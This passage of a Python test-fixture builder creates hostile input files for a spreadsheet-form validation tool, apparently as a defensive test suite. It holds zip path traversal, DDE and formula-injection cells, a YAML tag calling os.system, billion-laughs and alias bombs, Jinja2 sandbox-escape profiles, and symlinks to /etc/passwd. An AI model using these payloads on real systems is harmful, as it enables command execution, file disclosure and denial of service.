        i = raw.find(b"PK\x01\x02", i + 4)
    write(d / "pkcrypt.xlsx", bytes(raw))


@case("ole-encrypted", "a password-protected workbook (OLE2 EncryptionInfo / EncryptedPackage)", kind="refused",
      says={"validate": ["加密"]})
def _(d, c):
    write(d / "secret.xlsx", ole2(["Root Entry", "EncryptionInfo", "EncryptedPackage"]))


@case("zip-path-traversal", "members named ../../JXPWN and /tmp/JXPWN (never extracted)")
def _(d, c):
    members = parts(form_bytes())
    members["../../../../tmp/JXPWN-traversal"] = b"x"
    members["/tmp/JXPWN-absolute"] = b"x"
    members["xl/..\\..\\JXPWN-backslash"] = b"x"
    write(d / "traversal.xlsx", pack(members))


@case("rels-traversal", "the form sheet's relationship points outside the package", kind="refused")
def _(d, c):
    write(d / "relstrav.xlsx", patched({"xl/_rels/workbook.xml.rels": lambda x: x.replace(
        b'Target="worksheets/sheet1.xml"', b'Target="../../../../../../etc/passwd"').replace(
        b'Target="/xl/worksheets/sheet1.xml"', b'Target="../../../../../../etc/passwd"')}))


@case("external-links", "external relationships to a UNC share and file:///etc/passwd (never fetched)")
def _(d, c):
    def rels(xml):
        return xml.replace(b"</Relationships>", (
            b'<Relationship Id="rExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'externalLinkPath" Target="\\\\JXPWN.invalid\\share\\x.xlsx" TargetMode="External"/>'
            b'<Relationship Id="rExt2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'hyperlink" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'))
    write(d / "external.xlsx", patched({"xl/_rels/workbook.xml.rels": rels}))


@case("macros-named-xlsx", "a macro workbook (.xlsm content) named .xlsx: copies cannot be .xlsx",
      expect={"check": {2}, "recalc": {2}}, says={"check": [".xlsm"]},
      names={"check": "checked.xlsx", "recalc": "recalc.xlsx"})
def _(d, c):
    write(d / "renamed.xlsx", form_bytes(macros=True))


@case("too-big-file", "a 300 MB file (sparse) that starts like a zip", kind="refused", says={"validate": ["MB"]})
def _(d, c):
    sparse(d / "big.xlsx", 300 << 20, form_bytes())


@case("shared-strings-3m", "3 million shared strings", kind="refused")
def _(d, c):
    members = parts(form_bytes())
    out = io.BytesIO()
    out.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
    for i in range(3_000_000):
        out.write(b"<si><t>%d</t></si>" % i)
    out.write(b"</sst>")
    members["xl/sharedStrings.xml"] = out.getvalue()
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rSS" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    members[FORM_SHEET] = set_cell(members[FORM_SHEET], "B3", '<c r="B3" t="s"><v>0</v></c>')
    write(d / "strings.xlsx", pack(members, level=1))


@case("styles-1m", "a million cell formats in styles.xml", kind="refused")
def _(d, c):
    def change(xml):
        xfs = b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' * 1_000_000
        return re.sub(rb"(<cellXfs[^>]*>)", lambda m: m.group(1) + xfs, xml, count=1)
    write(d / "styles.xlsx", patched({"xl/styles.xml": change}, ))


@case("bad-cell-ref", "a cell reference no spreadsheet has (ZZZZ99999999)", kind="refused", says={"validate": ["损坏"]})
def _(d, c):
    write(d / "badref.xlsx", patched({FORM_SHEET: lambda x: x.replace(b'<c r="B3"', b'<c r="ZZZZ99999999"', 1)}))


@case("shared-string-out-of-range", "a cell pointing at shared string 999,999 of none", kind="refused",
      says={"validate": ["损坏"]})
def _(d, c):
    write(d / "sst.xlsx", patched({FORM_SHEET: lambda x: set_cell(x, "B3", '<c r="B3" t="s"><v>999999</v></c>')}))


@case("merged-finding", "a cell with a finding sits inside merges that overlap (not their top-left)",
      expect={"validate": {0, 1}, "check": {0, 1}})
def _(d, c):
    def change(xml):
        refs = [r.decode() for r in re.findall(rb'<mergeCell ref="([^"]+)"', xml)]
        extra = ["F12:I13", "E13:G14", "H13:H20", "G19:H21"]
        return _merges(xml, refs + extra)
    data = national()
    data["indicators"][0]["weight"] = 40      # a weight total finding (W02) at the category's cells
    write(d / "mergedfinding.xlsx", patched({FORM_SHEET: change}, base=form_bytes(data)))


@case("helpers-merged", "the helper columns (指标方向 ...) are merged, so 重新计算 cannot write them one by one",
      expect={"validate": {0, 1}, "check": {0, 1}})
def _(d, c):
    def change(xml):
        refs = [r.decode() for r in re.findall(rb'<mergeCell ref="([^"]+)"', xml)]
        return _merges(xml, refs + ["L10:N30"])
    data = national()
    for ind in data["indicators"]:
        ind["actual"] = "约" + str(ind["actual"])
    write(d / "helpers.xlsx", patched({FORM_SHEET: change}, base=form_bytes(data)))


@case("hyperlink-giant-range", "a hyperlink over the whole sheet (openpyxl binds it cell by cell)", expect={
          "validate": {0}, "validate-csv": {0}, "validate-json": {0}, "summary": {0}, "score": {0},
          "check": {2}, "recalc": {2}, "new-year": {2}}, says={"check": ["超链接"]})
def _(d, c):
    write(d / "links.xlsx", patched({FORM_SHEET: lambda x: with_sheet_extra(
        x, "</worksheet>", b'<hyperlinks><hyperlink ref="A1:XFD1048576" display="JXPWN"/></hyperlinks>')}))


@case("not-a-form", "a plain workbook from elsewhere (no JX_ names)", kind="refused")
def _(d, c):
    import openpyxl
    wb = openpyxl.Workbook()
    wb.active["A1"] = "项目支出绩效自评表"
    buf = io.BytesIO()
    wb.save(buf)
    write(d / "plain.xlsx", buf.getvalue())


@case("workbook-part-missing", "no xl/workbook.xml", kind="refused")
def _(d, c):
    write(d / "nowb.xlsx", patched({"xl/workbook.xml": None}))


# ---------------------------------------------------------------------------------------------------
# F. Other formats under a spreadsheet's name
# ---------------------------------------------------------------------------------------------------

@case("xls-renamed", "an old binary .xls (OLE2 Workbook stream) named .xlsx", kind="either")
def _(d, c):
    write(d / "old.xlsx", ole2(["Root Entry", "Workbook", "\x05SummaryInformation"]))


@case("xls-damaged", "an .xls that is only an OLE2 header", kind="either")
def _(d, c):
    write(d / "old.xls", ole2(["Root Entry", "Workbook"])[:700])


@case("et-wps", "a WPS .et (OLE2)", kind="either")
def _(d, c):
    write(d / "表.et", ole2(["Root Entry", "Workbook", "WpsCustomData"]))


@case("xlsb-renamed", "a binary .xlsb named .xlsx", kind="refused", says={"validate": ["xlsb"]})
def _(d, c):
    write(d / "binary.xlsx", pack({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83\x01\x00"}))


@case("ods-renamed", "an OpenDocument spreadsheet named .xlsx", kind="either")
def _(d, c):
    write(d / "calc.xlsx", pack({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                 "content.xml": b"<office:document-content/>"}))


@case("docx-renamed", "a Word document named .xlsx", kind="refused", says={"validate": ["Word"]})
def _(d, c):
    write(d / "report.xlsx", pack({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}))


@case("pptx-renamed", "a PowerPoint file named .xlsx", kind="refused")
def _(d, c):
    write(d / "slides.xlsx", pack({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}))


@case("pdf-renamed", "a PDF named .xlsx", kind="refused")
def _(d, c):
    write(d / "scan.xlsx", b"%PDF-1.7\n" + os.urandom(2000))


@case("html-as-xls", "an HTML table saved as .xls (web systems' 'export to Excel')", kind="either")
def _(d, c):
    write(d / "export.xls", "<html><body><table><tr><td>=cmd|' /C calc JXPWN'!A0</td></tr></table></body></html>")


# ---------------------------------------------------------------------------------------------------
# F'. Forms jixiao did not make, read by their headings (issue 11): the same promises
# ---------------------------------------------------------------------------------------------------

#: Text with control characters (as an .xls, an HTML export or an .ods can hold them) and a formula.
DIRTY = f"=HYPERLINK(\"http://{TOKEN}.example/\")\x1b[2J\x00\x07\x0b\u202e项目"
DIRTY_MARK = "@@dirty@@"


def foreign_form(dirty: bool = True):
    """The foreign corpus's national form (tests/support/foreign.py) as an openpyxl workbook, its
    project name and indicator names made hostile."""
    import copy
    from openpyxl import Workbook
    from tests.support import foreign
    data = copy.deepcopy(foreign.WATER)
    wb = Workbook()
    wb.active.title = "自评表"
    foreign.write_national(foreign.Writer(wb.active), data)
    if dirty:
        for row in wb.active.iter_rows():
            for cell in row:
                if cell.value == data["header"]["project_name"] or cell.value in [row[2] for row in data["rows"][:3]]:
                    cell.value = DIRTY_MARK       # openpyxl holds no control character: to_html puts DIRTY
    return wb


def to_html(wb, texts: dict | None = None) -> str:
    """A worksheet as the HTML table a web system exports under an .xls name; control characters as
    character references (an HTML parser decodes them)."""
    ws = wb.active
    spans = {(m.min_row, m.min_col): m for m in ws.merged_cells.ranges}
    covered = {(r, c) for m in ws.merged_cells.ranges for r in range(m.min_row, m.max_row + 1)
               for c in range(m.min_col, m.max_col + 1) if (r, c) != (m.min_row, m.min_col)}

    def esc(v) -> str:
        return "".join(f"&#{ord(ch)};" if ord(ch) < 32 or ch in "<&\u202e" else ch for ch in str(v))
    rows = []
    for r in range(1, ws.max_row + 1):
        cells = []
        for c in range(1, ws.max_column + 1):
            if (r, c) in covered:
                continue
            m, v = spans.get((r, c)), ws.cell(r, c).value
            span = f' rowspan="{m.max_row - m.min_row + 1}" colspan="{m.max_col - m.min_col + 1}"' if m else ""
            v = DIRTY if v == DIRTY_MARK else v
            cells.append(f"<td{span}>{'' if v is None else esc(v)}</td>")
        rows.append("<tr>" + "".join(cells) + "</tr>")
    return '<html><head><meta charset="utf-8"></head><body><table>' + "".join(rows) + "</table></body></html>"


@case("foreign-html-dirty", "a web system's HTML export (.xls) of a form whose names hold a formula and control "
      "characters (ESC, NUL, BEL, VT, RLO)", kind="foreign")
def _(d, c):
    write(d / "导出.xls", to_html(foreign_form()))


@case("foreign-xlsx-injection", "a form jixiao did not make (.xlsx, read by headings) whose names are formulas",
      kind="foreign")
def _(d, c):
    wb = foreign_form()
    for row in wb.active.iter_rows():
        for cell in row:
            if cell.value == DIRTY_MARK:
                cell.value = INJECTIONS[1]
                cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    write(d / "外来表.xlsx", buf.getvalue())


@case("foreign-html-spans", "an HTML export whose cells span 100,000 rows and columns, 20,000 times", kind="either")
def _(d, c):
    cell = '<td rowspan="100000" colspan="100000">x</td>'
    write(d / "spans.xls", "<html><body><table>" + ("<tr>" + cell * 100 + "</tr>") * 200 + "</table></body></html>")


@case("foreign-xml2003-laughs", "an \"XML 电子表格 2003\" export with a billion-laughs DTD", kind="refused",
      says={"validate": ["DTD"]})
def _(d, c):
    write(d / "export.xls", doctype("laughs", "Workbook") + b'<?mso-application progid="Excel.Sheet"?>'
          b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row><Cell><Data>&l9;'
          b'</Data></Cell></Row></Table></Worksheet></Workbook>')


@case("foreign-ods-spans", "an .ods whose cells span a million rows, 1,200 times", kind="either")
def _(d, c):
    cell = '<table:table-cell table:number-rows-spanned="1048576" table:number-columns-spanned="1024"><text:p>x</text:p></table:table-cell>'
    content = ('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
               '<office:body><office:spreadsheet><table:table table:name="S">'
               + ("<table:table-row>" + cell * 20 + "</table:table-row>") * 60
               + "</table:table></office:spreadsheet></office:body></office:document-content>")
    write(d / "spans.ods", pack({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                 "content.xml": content.encode()}))


# ---------------------------------------------------------------------------------------------------
# G. Things that are not regular files
# ---------------------------------------------------------------------------------------------------

@case("fifo-in-folder", "a FIFO named .xlsx in a folder being validated (the clean form beside it is checked)",
      kind="refused", target=".", names="fifo.xlsx")
def _(d, c):
    write(d / "clean.xlsx", form_bytes())
    os.mkfifo(d / "fifo.xlsx")


@case("fifo", "a FIFO named .xlsx, given by name", kind="refused", says={"validate": ["普通文件"]})
def _(d, c):
    os.mkfifo(d / "pipe.xlsx")


@case("symlink-dev-zero", "a symlink named .xlsx to /dev/zero", kind="refused", says={"validate": ["普通文件"]})
def _(d, c):
    os.symlink("/dev/zero", d / "zero.xlsx")


@case("symlink-dev-null", "a symlink named .xlsx to /dev/null", kind="refused")
def _(d, c):
    os.symlink("/dev/null", d / "null.xlsx")


@case("symlink-loop", "a.xlsx -> b.xlsx -> a.xlsx", kind="refused", target="a.xlsx")
def _(d, c):
    os.symlink("b.xlsx", d / "a.xlsx")
    os.symlink("a.xlsx", d / "b.xlsx")


@case("symlink-dangling", "a symlink to nothing", kind="refused")
def _(d, c):
    os.symlink("nowhere/none.xlsx", d / "dangling.xlsx")


@case("symlink-outside", "a symlink named .xlsx to /etc/passwd", kind="refused")
def _(d, c):
    os.symlink("/etc/passwd", d / "passwd.xlsx")


@case("socket", "a UNIX socket named .xlsx", kind="refused")
def _(d, c):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.bind(str(d / "sock.xlsx"))
    finally:
        s.close()


@case("folder-named-xlsx", "a folder named x.xlsx", kind="refused", target="x.xlsx")
def _(d, c):
    (d / "x.xlsx").mkdir()
    write(d / "x.xlsx" / "readme.txt", "x")


@case("unreadable-subfolder", "a sub-folder nobody may read (as a normal user)", kind="refused", target=".",
      user="nobody", names="locked")
def _(d, c):
    write(d / "clean.xlsx", form_bytes())
    write(d / "locked" / "inside.xlsx", form_bytes())
    os.chmod(d / "locked", 0)


@case("unreadable-file", "a form nobody may read (as a normal user)", kind="refused", user="nobody",
      says={"validate": ["权限"]})
def _(d, c):
    write(d / "locked.xlsx", form_bytes())
    os.chmod(d / "locked.xlsx", 0)


# ---------------------------------------------------------------------------------------------------
# H. Data files for fill
# ---------------------------------------------------------------------------------------------------

def data_case(name, about, fill_codes, **kw):
    kw.setdefault("expect", {})["fill"] = fill_codes
    return case(name, about, kind="data", **kw)


@data_case("yaml-alias-bomb", "a 485-byte YAML alias bomb", {2}, says={"fill": ["别名"]})
def _(d, c):
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    lines.append("header: {project_name: *a8}")
    write(d / "bomb.yaml", "\n".join(lines) + "\n")


@data_case("yaml-merge-bomb", "YAML merge keys repeating an anchor 10,000 times", {2}, says={"fill": ["别名"]})
def _(d, c):
    write(d / "merge.yaml", "base: &b {project_name: x}\nheader:\n" + "".join(f"  k{i}: {{<<: *b}}\n" for i in range(10_000)))


@data_case("yaml-deep", "100,000 levels of nesting in YAML", {2}, says={"fill": ["层"]})
def _(d, c):
    write(d / "deep.yaml", "header: " + "[" * 100_000 + "]" * 100_000 + "\n")


@data_case("json-deep", "100,000 levels of nesting in JSON", {2}, says={"fill": ["层"]})
def _(d, c):
    write(d / "deep.json", '{"header": ' + "[" * 100_000 + "]" * 100_000 + "}")


@data_case("yaml-python-tag", "a YAML tag that would call os.system", {2})
def _(d, c):
    write(d / "tag.yaml", f"header: !!python/object/apply:os.system ['touch {c}/yaml-python-tag']\n")


@data_case("data-profile-path", "a data file whose profile: is a path to a Jinja2 payload", {2}, target="data.yaml",
           says={"fill": ["规则配置名称"]})
def _(d, c):
    write(d / "evil.yaml.j2", jinja_payload(c, "data-profile-path"))
    write(d / "data.yaml", yaml.safe_dump({**national(), "profile": "./evil.yaml.j2"}, allow_unicode=True))


@data_case("data-profile-sandbox", "a data file naming a profile that tries to escape the sandbox", {2},
           target="data.yaml", env={"JIXIAO_PROFILE_PATH": "{in}/profiles"})
def _(d, c):
    write(d / "profiles" / "evilprof.yaml.j2", jinja_payload(c, "data-profile-sandbox"))
    write(d / "data.yaml", yaml.safe_dump({**national(), "profile": "evilprof"}, allow_unicode=True))


@data_case("data-long-names", "two projects whose names make file names over 255 bytes", {0})
def _(d, c):
    projects = []
    for n in (1, 2):
        p = national()
        p["header"] = dict(p["header"], project_name=f"第{n}个" + "农村饮水安全巩固提升工程配套管网延伸及水质净化消毒设备购置安装" * 3)
        projects.append(p)
    write(d / "long.yaml", yaml.safe_dump({"projects": projects}, allow_unicode=True))


@data_case("data-vertical-tab", "a vertical tab and a form feed in fill data (Word's line break)", {0})
def _(d, c):
    p = national()
    p["header"] = dict(p["header"], project_name="农村饮水\v安全\f工程")
    p["indicators"][0]["explanation"] = "第一行\v第二行"
    write(d / "vt.yaml", yaml.safe_dump(p, allow_unicode=True))


@data_case("data-nul-esc", "NUL, ESC and DEL in fill data", {2}, says={"fill": ["控制字符"]})
def _(d, c):
    p = national()
    p["header"] = dict(p["header"], project_name="农村\x00饮水\x1b[31m工程\x7f")
    write(d / "nul.json", json.dumps(p, ensure_ascii=False))


@data_case("data-lone-surrogate", "a JSON string with a lone surrogate (\\ud800)", {2})
def _(d, c):
    p = national()
    p["header"] = dict(p["header"], project_name="农村\ud800饮水")
    write(d / "surrogate.json", json.dumps(p, ensure_ascii=True))


@data_case("data-1e308", "1e308 as amounts and weights", {0})
def _(d, c):
    p = national()
    p["funds"][0].update(budget=1e308, executed=1e308, initial=1e308)
    p["indicators"][0]["weight"] = 1e308
    write(d / "big.yaml", yaml.safe_dump(p, allow_unicode=True))


@data_case("data-nan-inf", "NaN and infinity as amounts", {2})
def _(d, c):
    text = yaml.safe_dump(national(), allow_unicode=True)
    text = text.replace("budget: 100", "budget: .nan").replace("executed: 100", "executed: .inf")
    write(d / "naninf.yaml", text)


@data_case("data-year-inf", "the year is inf", {2}, says={"fill": ["年度"]})
def _(d, c):
    write(d / "yearinf.json", json.dumps(national(year=float("inf"))).replace("Infinity", "1e999"))


@data_case("data-bigint", "an amount with 10,000 digits", {2})
def _(d, c):
    write(d / "bigint.json", json.dumps(national()).replace('"budget": 100', '"budget": ' + "9" * 10_000))


@data_case("data-file-name-traversal", "file_name: ../../JXPWN and an absolute path", {0})
def _(d, c):
    write(d / "trav.yaml", yaml.safe_dump({"projects": [national(file_name="../../../JXPWN-escape"),
                                                        national(file_name="/tmp/JXPWN-abs")]}, allow_unicode=True))


@data_case("data-file-name-reserved", "file names Windows reserves (CON, nul.txt, trailing dots, blank)", {0})
def _(d, c):
    write(d / "reserved.yaml", yaml.safe_dump({"projects": [national(file_name=n) for n in
                                                            ("CON", "nul.txt", "LPT1", "name. . .", "   ")]},
                                              allow_unicode=True))


@data_case("data-file-name-breaks", "file_name with a line break, a tab, a bidi override and a quote", {0})
def _(d, c):
    write(d / "ctl.json", json.dumps({"projects": [national(file_name="a\nJXPWN\tb"),
                                                   national(file_name="\u202eJXPWN\u202c\"exe")]}, ensure_ascii=False))


@data_case("data-csv-injection", "a CSV with formula-injection cells, as Excel saves it (GBK)", {0})
def _(d, c):
    rows = [["项目名称", "实施单位", "一级指标", "三级指标", "年度指标值", "实际完成值", "分值", "偏差原因分析及改进措施"]]
    for i, text in enumerate(INJECTIONS):
        rows.append([INJECTIONS[0] if i == 0 else "", INJECTIONS[1] if i == 0 else "", "产出指标",
                     text.replace("\r", ""), "≥95%", "96%", "5", text.replace("\r", "")])
    import csv
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    write(d / "inject.csv", buf.getvalue().replace("\u00a0", " ").encode("gb18030"))


@data_case("data-fifo", "a FIFO named data.yaml", {2}, says={"fill": ["普通文件"]})
def _(d, c):
    os.mkfifo(d / "data.yaml")


@data_case("data-dev-zero", "data.yaml is a symlink to /dev/zero", {2}, says={"fill": ["普通文件"]})
def _(d, c):
    os.symlink("/dev/zero", d / "data.yaml")


@data_case("data-too-big", "a 200 MB data file (sparse)", {2}, says={"fill": ["MB"]})
def _(d, c):
    sparse(d / "big.yaml", 200 << 20, b"header: {project_name: x}\n#")


@data_case("data-many-indicators", "one project with 5,000 indicators", {2}, says={"fill": ["指标"]})
def _(d, c):
    p = national()
    p["indicators"] = [dict(p["indicators"][0], name=f"指标{i}") for i in range(5_000)]
    write(d / "many.json", json.dumps(p, ensure_ascii=False))


@data_case("data-invalid-utf8", "a YAML file that is not UTF-8", {2}, says={"fill": ["编码"]})
def _(d, c):
    write(d / "latin.yaml", b"header: {project_name: \xff\xfe\x80}\n")


@data_case("data-empty", "an empty data file", {2})
def _(d, c):
    write(d / "empty.yaml", b"")


@data_case("data-40-projects", "40 projects (the parallel path)", {0})
def _(d, c):
    write(d / "forty.yaml", yaml.safe_dump({"projects": [national(file_name=f"项目{i:02d}") for i in range(40)]},
                                           allow_unicode=True))


# ---------------------------------------------------------------------------------------------------
# O. Outputs
# ---------------------------------------------------------------------------------------------------

# Never the machine's own /dev/stdout: a regression would replace it for everyone. A link of our own
# to the same place shows the same thing.
@case("out-stdout-link-force", "-o a link to /proc/self/fd/1 (like /dev/stdout) --force: never replaced",
      target="f.xlsx", names={"validate": "stdout", "score": "stdout", "summary": "link.xlsx"}, commands={
          "validate": ["validate", "-o", "{in}/stdout", "--force", "{t}"],
          "score": ["score", "-o", "{in}/stdout", "--force", "{t}"],
          "summary": ["validate", "--summary", "{in}/link.xlsx", "--force", "{t}"]},
      expect={"validate": {2}, "score": {2}, "summary": {2}}, says={"validate": ["普通文件"]})
def _(d, c):
    write(d / "f.xlsx", form_bytes())
    os.symlink("/proc/self/fd/1", d / "stdout")
    os.symlink("/dev/null", d / "link.xlsx")


@case("out-symlink-force", "--force onto a symlink to a file elsewhere: the link and its target stay",
      target="f.xlsx", names="link.json", commands={
          "validate-json": ["validate", "--json", "-o", "{in}/link.json", "--force", "{t}"]},
      expect={"validate-json": {2}})
def _(d, c):
    write(d / "f.xlsx", form_bytes())
    write(d / "elsewhere" / "precious.json", "{}")
    os.symlink("elsewhere/precious.json", d / "link.json")


@case("out-fifo-force", "--force onto a FIFO: refused, never blocks", target="f.xlsx", names="pipe.csv", commands={
    "validate-csv": ["validate", "--csv", "-o", "{in}/pipe.csv", "--force", "{t}"]}, expect={"validate-csv": {2}})
def _(d, c):
    write(d / "f.xlsx", form_bytes())
    os.mkfifo(d / "pipe.csv")


@case("out-readonly", "outputs into a folder nobody may write (as a normal user)", target="f.xlsx", user="nobody",
      names="ro", commands={
          "validate-json": ["validate", "--json", "-o", "{in}/ro/r.json", "{t}"],
          "summary": ["validate", "--summary", "{in}/ro/s.xlsx", "{t}"],
          "check": ["check", "{t}", "--out", "{in}/ro/c.xlsx"],
          "recalc": ["recalc", "{t}", "--out", "{in}/ro/r.xlsx"],
          "new-year": ["new-year", "{in}/ro/f.xlsx"],
          "fill": ["fill", "{in}/d.yaml", "--out", "{in}/ro/filled"]},
      expect={k: {2} for k in ("validate-json", "summary", "check", "recalc", "new-year", "fill")},
      says={"check": ["权限"]})
def _(d, c):
    write(d / "f.xlsx", form_bytes())
    write(d / "ro" / "f.xlsx", form_bytes())
    write(d / "d.yaml", yaml.safe_dump(national(), allow_unicode=True))
    os.chmod(d / "ro", 0o555)


@case("out-proc", "outputs where nothing can be written, even as root (/proc)", target="f.xlsx", names="/proc",
      commands={
          "validate-json": ["validate", "--json", "-o", "/proc/jixiao-none/r.json", "{t}"],
          "summary": ["validate", "--summary", "/proc/jixiao-none/s.xlsx", "{t}"],
          "check": ["check", "{t}", "--out", "/proc/jixiao-none/c.xlsx"],
          "fill": ["fill", "{in}/d.yaml", "--out", "/proc/jixiao-none"]},
      expect={k: {2} for k in ("validate-json", "summary", "check", "fill")})
def _(d, c):
    write(d / "f.xlsx", form_bytes())
    write(d / "d.yaml", yaml.safe_dump(national(), allow_unicode=True))


@case("out-disk-full", "the disk fills up while writing (RLIMIT_FSIZE 512 bytes)", target="f.xlsx", fsize=512,
      names={"new-year": "2025年度f.xlsx", **{c: "out" for c in ("validate-json", "summary", "check", "recalc", "fill")}},
      commands={
          "validate-json": ["validate", "--json", "-o", "{out}/r.json", "{t}"],
          "summary": ["validate", "--summary", "{out}/s.xlsx", "{t}"],
          "check": ["check", "{t}", "--out", "{out}/c.xlsx"],
          "recalc": ["recalc", "{t}", "--out", "{out}/r.xlsx"],
          "new-year": ["new-year", "{t}"],
          "fill": ["fill", "{in}/d.yaml", "--out", "{out}/filled"]},
      expect={k: {2} for k in ("validate-json", "summary", "check", "recalc", "new-year", "fill")},
      says={"check": ["空间"]})
def _(d, c):
    write(d / "f.xlsx", form_bytes())
    write(d / "d.yaml", yaml.safe_dump(national(), allow_unicode=True))


@case("out-xlsm-as-xlsx", "check/recalc of an .xlsm into an .xlsx copy (Excel would refuse it)", target="m.xlsm",
      names="c.xlsx", commands={
          "check": ["check", "{t}", "--out", "{out}/c.xlsx"], "recalc": ["recalc", "{t}", "--out", "{out}/c.xlsx"]},
      expect={"check": {2}, "recalc": {2}}, says={"check": [".xlsm"]})
def _(d, c):
    write(d / "m.xlsm", form_bytes(macros=True))


@case("out-xlsx-as-xlsm", "check of an .xlsx into an .xlsm copy", target="f.xlsx", names="c.xlsm", commands={
    "check": ["check", "{t}", "--out", "{out}/c.xlsm"]}, expect={"check": {2}}, says={"check": [".xlsx"]})
def _(d, c):
    write(d / "f.xlsx", form_bytes())


@case("out-long-name", "an output name over 255 bytes", target="f.xlsx", names="长", commands={
    "check": ["check", "{t}", "--out", "{out}/" + "长" * 100 + ".xlsx"],
    "validate-json": ["validate", "--json", "-o", "{out}/" + "长" * 100 + ".json", "{t}"]},
      expect={"check": {2}, "validate-json": {2}})
def _(d, c):
    write(d / "f.xlsx", form_bytes())


@case("fill-force-special", "fill --force where a target name is a FIFO and another a symlink", target="d.yaml",
      names="项目", commands={"fill": ["fill", "{t}", "--out", "{in}/filled", "--force"]}, expect={"fill": {2}},
      says={"fill": ["普通文件"]})
def _(d, c):
    write(d / "d.yaml", yaml.safe_dump({"projects": [national(file_name="项目A"), national(file_name="项目B")]},
                                       allow_unicode=True))
    (d / "filled").mkdir()
    os.mkfifo(d / "filled" / "项目A.xlsx")
    os.symlink("/dev/null", d / "filled" / "项目B.xlsx")


# ---------------------------------------------------------------------------------------------------

def build(root: Path, only: set[str] | None = None) -> list[Case]:
    """Write every case under `root` (root/<name>/in) and return them; payload markers go to root/pwned."""
    root = Path(root)
    pwned = root / "pwned"
    pwned.mkdir(parents=True, exist_ok=True)
    os.chmod(pwned, 0o777)
    cases = []
    for spec, make in CASES:
        if only and spec.name not in only:
            continue
        folder = root / spec.name / "in"
        folder.mkdir(parents=True)
        make(folder, pwned)
        if not spec.target:
            entries = os.listdir(os.fsencode(folder))
            if len(entries) != 1:
                raise AssertionError(f"{spec.name}: give target= (found {entries})")
            spec.target = os.fsdecode(entries[0])
        cases.append(spec)
    return cases


if __name__ == "__main__":
    out = Path(sys.argv[1])
    for spec in build(out, set(sys.argv[2:]) or None):
        print(f"{spec.name:32} {spec.kind:8} {spec.about}")
